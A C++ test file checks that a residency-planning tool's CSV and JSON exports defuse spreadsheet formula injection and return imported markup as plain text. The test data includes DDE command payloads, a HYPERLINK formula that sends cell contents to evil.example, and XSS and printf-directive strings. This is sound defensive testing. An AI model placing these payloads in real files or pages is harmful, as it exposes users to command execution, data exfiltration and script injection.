// Exports cannot attack the program that opens them, and imported text stays text.
//
// 1. CSV formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or
//    carriage return, or those after leading blanks, which some importers trim) as a formula.
//    Every cell programs_to_csv and plan_to_csv write must read back, through a CSV reader, as
//    either a plain number or text that cannot start a formula; the original text comes back on
//    import.
// 2. Markup: names holding HTML, Markdown, printf directives or JSON look-alikes come back byte
//    for byte from every import and export; JSON exports escape them as JSON strings and nothing
//    else. (The interface draws text with Dear ImGui, which has no markup; the page's own DOM
//    text is checked by tests/web/.)
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "openpick/core/advice.h"
#include "openpick/core/csv.h"
#include "openpick/core/io.h"
#include "openpick/core/model.h"
#include "openpick/core/planner.h"

using namespace openpick::core;

namespace {

// Payloads seen in CSV-injection reports (OWASP "CSV Injection"; DDE and HYPERLINK exfiltration).
const std::vector<std::string> kFormulaCells = {
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "-Internal Medicine",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=-1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "  +1+1",
    "'=1+1",  // the user's own apostrophe in front of a formula
    "''@x",
    "=",
    "+",
    "-",
    "@",
};

// A cell a spreadsheet would treat as a formula: after any blanks it trims, it starts with one of
// = + - @, and it is not a plain number such as -3 or +1.5.
bool would_run_as_formula(const std::string& cell) {
  if (!cell.empty() && (cell.front() == '\t' || cell.front() == '\r')) return true;
  std::size_t k = 0;
  while (k < cell.size() && (cell[k] == ' ' || cell[k] == '\t' || cell[k] == '\r' || cell[k] == '\n')) ++k;
  if (k == cell.size()) return false;
  const char c = cell[k];
  if (c != '=' && c != '+' && c != '-' && c != '@') return false;
  return !csv_is_plain_number(cell.substr(k));
}

void expect_no_formula_cells(const std::string& csv) {
  const CsvTable t = parse_csv(csv, "export.csv");
  ASSERT_FALSE(t.has_errors());
  for (const auto& cell : t.header) EXPECT_FALSE(would_run_as_formula(cell)) << cell;
  for (const auto& row : t.rows)
    for (const auto& cell : row.fields) EXPECT_FALSE(would_run_as_formula(cell)) << "line " << row.line << ": " << cell;
}

Program program_named(const std::string& text, int n) {
  Program p;
  p.id = "P" + std::to_string(n) + text;
  p.name = text;
  p.institution = text;
  p.specialty = "Internal Medicine";
  p.city = text;
  p.state = "MS";
  p.setting = Setting::Community;
  p.img_share = 0.5;
  p.visa.j1 = true;
  return p;
}

Profile img_profile() {
  Profile p;
  p.graduate_type = GraduateType::NonUsImg;
  p.visa = VisaNeed::J1;
  p.step1.result = ExamResult::Pass;
  p.step2ck.score = 230;
  p.graduation_year = 2022;
  p.match_year = 2026;
  p.specialties = {{"Internal Medicine", 1.0}};
  return p;
}

}  // namespace

TEST(ExportSafety, TheCheckerItselfSeesFormulas) {
  for (const auto& c : kFormulaCells)
    if (c.front() != '\'') EXPECT_TRUE(would_run_as_formula(c)) << c;
  EXPECT_FALSE(would_run_as_formula("-3"));
  EXPECT_FALSE(would_run_as_formula("+1.5"));
  EXPECT_FALSE(would_run_as_formula("'=1+1"));
  EXPECT_FALSE(would_run_as_formula("Internal Medicine"));
}

TEST(ExportSafety, EscapedCellsNeverStartAFormulaAndComeBackUnchanged) {
  for (const auto& cell : kFormulaCells) {
    SCOPED_TRACE(cell);
    const std::string line = csv_row({cell});
    const CsvTable t = parse_csv("h\n" + line, "x.csv");
    ASSERT_EQ(t.rows.size(), 1u);
    ASSERT_EQ(t.rows[0].fields.size(), 1u);
    EXPECT_FALSE(would_run_as_formula(t.rows[0].fields[0])) << line;
    EXPECT_EQ(csv_unescape_cell(t.rows[0].fields[0]), cell);
  }
  // Plain numbers are data, not formulas: written as they are.
  EXPECT_EQ(csv_escape_cell("-3"), "-3");
  EXPECT_EQ(csv_escape_cell("+1.5"), "+1.5");
  EXPECT_EQ(csv_escape_cell("-0.25e-3"), "-0.25e-3");
}

TEST(ExportSafety, ProgramsCsvNeutralizesEveryTextColumnAndImportRestoresIt) {
  std::vector<Program> programs;
  for (std::size_t n = 0; n < kFormulaCells.size(); ++n)
    programs.push_back(program_named(kFormulaCells[n], static_cast<int>(n)));
  // A program whose id itself starts a formula.
  programs.push_back(program_named("x", 99));
  programs.back().id = "=1+1";
  const std::string csv = programs_to_csv(programs);
  expect_no_formula_cells(csv);

  const auto back = parse_programs_csv(csv, "export.csv");
  ASSERT_TRUE(back.ok()) << csv;
  ASSERT_EQ(back.value->programs.size(), programs.size());
  for (std::size_t n = 0; n < programs.size(); ++n) {
    const Program& a = programs[n];
    const Program& b = back.value->programs[n];
    // Exactly the text exported: the apostrophe in front even keeps leading blanks, which import
    // trims from any other cell.
    EXPECT_EQ(b.id, a.id);
    EXPECT_EQ(b.name, a.name);
    EXPECT_EQ(b.institution, a.institution);
    EXPECT_EQ(b.city, a.city);
  }
}

TEST(ExportSafety, PlanCsvNeutralizesNamesFromAnImportedDataset) {
  Dataset dataset;
  dataset.name = "=evil";
  for (std::size_t n = 0; n < kFormulaCells.size(); ++n)
    dataset.programs.push_back(program_named(kFormulaCells[n], static_cast<int>(n)));
  dataset.programs[0].specialty = "Internal Medicine";

  const Model model;
  PlanOptions options;
  options.whatif = false;
  options.max_applications = static_cast<int>(kFormulaCells.size());
  const Plan plan = make_plan(img_profile(), dataset, options, model);
  ASSERT_FALSE(plan.programs.empty());
  const std::string csv = plan_to_csv(plan, dataset);
  expect_no_formula_cells(csv);
  // Every planned program's name is in the file, neutralized.
  const CsvTable t = parse_csv(csv, "plan.csv");
  ASSERT_EQ(t.rows.size(), plan.programs.size());
  for (std::size_t n = 0; n < plan.programs.size(); ++n)
    EXPECT_EQ(csv_unescape_cell(t.rows[n].fields[2]), dataset.programs[plan.programs[n].index].name);
}

TEST(ExportSafety, PlanCsvOfAHandBuiltPlanWithHostileIdsAndReasons) {
  Dataset dataset;
  dataset.programs.push_back(program_named("@SUM(A1)", 0));
  Plan plan;
  PlannedProgram p;
  p.index = 0;
  p.id = "-1+cmd|' /C calc'!A0";
  p.reasons = {"=HYPERLINK(\"x\")", "+ US clinical experience"};
  plan.programs.push_back(p);
  const std::string csv = plan_to_csv(plan, dataset);
  expect_no_formula_cells(csv);
  const CsvTable t = parse_csv(csv, "plan.csv");
  ASSERT_EQ(t.rows.size(), 1u);
  EXPECT_EQ(csv_unescape_cell(t.rows[0].fields[1]), p.id);
}

// ---- imported text is text ----------------------------------------------------------------------

namespace {

const std::vector<std::string> kMarkupTexts = {
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><b>bold</b>",
    "&lt;b&gt; &amp; &#60;",
    "[click](javascript:alert(1))",
    "**bold** _it_ `code`",
    "%s %n %x %% {0} ${x} {{x}}",
    "\\\" \\u0000 \\n",
    "{\"programs\": []}",
    "##imgui_id###other",
    "Sample — Hospital ñ 日本語 🙂",
};

}  // namespace

TEST(ImportedTextIsText, JsonDatasetRoundTripsMarkupByteForByte) {
  Dataset d;
  d.name = kMarkupTexts[0];
  d.source = kMarkupTexts[1];
  for (std::size_t n = 0; n < kMarkupTexts.size(); ++n)
    d.programs.push_back(program_named(kMarkupTexts[n], static_cast<int>(n)));
  const std::string json = dataset_to_json(d);
  // JSON escaping only: no HTML entities, the < and > are left as they are.
  EXPECT_NE(json.find("<script>alert(1)</script>"), std::string::npos);
  EXPECT_EQ(json.find("&lt;script"), std::string::npos);
  const auto back = parse_dataset_json(json, "d.json");
  ASSERT_TRUE(back.ok()) << json;
  EXPECT_EQ(back.value->name, d.name);
  EXPECT_EQ(back.value->source, d.source);
  ASSERT_EQ(back.value->programs.size(), d.programs.size());
  for (std::size_t n = 0; n < d.programs.size(); ++n) {
    EXPECT_EQ(back.value->programs[n].name, kMarkupTexts[n]);
    EXPECT_EQ(back.value->programs[n].id, d.programs[n].id);
  }
  EXPECT_EQ(dataset_to_json(*back.value), json);
}

TEST(ImportedTextIsText, CsvRoundTripsMarkup) {
  std::vector<Program> programs;
  for (std::size_t n = 0; n < kMarkupTexts.size(); ++n)
    programs.push_back(program_named(kMarkupTexts[n], static_cast<int>(n)));
  const std::string csv = programs_to_csv(programs);
  const auto back = parse_programs_csv(csv, "p.csv");
  ASSERT_TRUE(back.ok()) << csv;
  for (std::size_t n = 0; n < programs.size(); ++n) EXPECT_EQ(back.value->programs[n].name, kMarkupTexts[n]);
}

TEST(ImportedTextIsText, PlanJsonCarriesNamesAsJsonStrings) {
  Dataset d;
  for (std::size_t n = 0; n < kMarkupTexts.size(); ++n)
    d.programs.push_back(program_named(kMarkupTexts[n], static_cast<int>(n)));
  const Model model;
  PlanOptions options;
  options.whatif = false;
  options.max_applications = static_cast<int>(d.programs.size());
  const Plan plan = make_plan(img_profile(), d, options, model);
  ASSERT_FALSE(plan.programs.empty());
  const std::string json = plan_to_json(plan, d, advise(img_profile(), &plan));
  const auto parsed = nlohmann::json::parse(json);
  for (const auto& p : parsed.at("programs")) {
    const std::string name = p.at("name").get<std::string>();
    bool known = false;
    for (const auto& t : kMarkupTexts) known = known || t == name;
    EXPECT_TRUE(known) << name;
  }
}

TEST(ImportedTextIsText, DiagnosticsQuoteHostileTextWithoutInterpretingIt) {
  // A printf directive or markup in a bad value lands in the message as text.
  const std::string text = "{\"schema_version\": 1, \"graduate_type\": \"%n%s<b>x</b>\"}";
  const auto r = parse_profile_json(text, "<i>p</i>.json");
  ASSERT_FALSE(r.ok());
  std::string all;
  for (const auto& d : r.diagnostics) all += format_diagnostic(d) + "\n";
  EXPECT_NE(all.find("<i>p</i>.json"), std::string::npos) << all;
  EXPECT_NE(all.find("%n%s<b>x</b>"), std::string::npos) << all;
}
